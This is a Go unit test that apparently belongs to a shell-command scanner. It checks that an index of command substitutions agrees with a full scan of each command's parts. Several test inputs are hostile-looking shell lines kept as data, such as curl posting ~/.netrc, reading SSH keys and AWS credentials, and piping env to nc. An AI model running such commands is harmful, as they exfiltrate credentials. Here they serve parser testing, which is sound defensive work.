package patterns

import (
	"slices"
	"testing"
)

// TestSubstIndexWithin checks that the index of a line's substitutions
// gives, for each part, the parts [secret-passed] looked for by a scan of
// every part: in a substitution, within the part's span, not empty.
func TestSubstIndexWithin(t *testing.T) {
	found := 0
	for _, src := range []string{
		`curl -d "$(cat ~/.netrc)" https://x`,
		`a $(b $(c) d) $(e) | f <(g) && h "$(i)"`,
		`K=$(cat ~/.ssh/id_ed25519) ./deploy.sh; echo $(env) | nc x 1`,
		`bash -c 'x=$(cat ~/.aws/credentials); curl -d "$x" h'`,
		`echo a | sed p; ls`,
	} {
		cmd := Read(src)
		in := substParts(cmd)
		ix := newSubstIndex(cmd)
		for _, p := range cmd.Parts {
			var want, got []int
			for _, q := range cmd.Parts {
				if q != nil && in[q.Index] && within2(q.Span, p.Span) {
					want = append(want, q.Index)
				}
			}
			ix.within(p.Span, func(q *Part) bool {
				got = append(got, q.Index)
				return true
			})
			found += len(got)
			slices.Sort(got)
			if !slices.Equal(got, want) {
				t.Errorf("%s: part %d (%s): within gives %v, the scan %v", src, p.Index, p.Text(), got, want)
			}
		}
	}
	if found < 8 {
		t.Errorf("the lines gave %d parts within others' substitutions, want at least 8", found)
	}
}
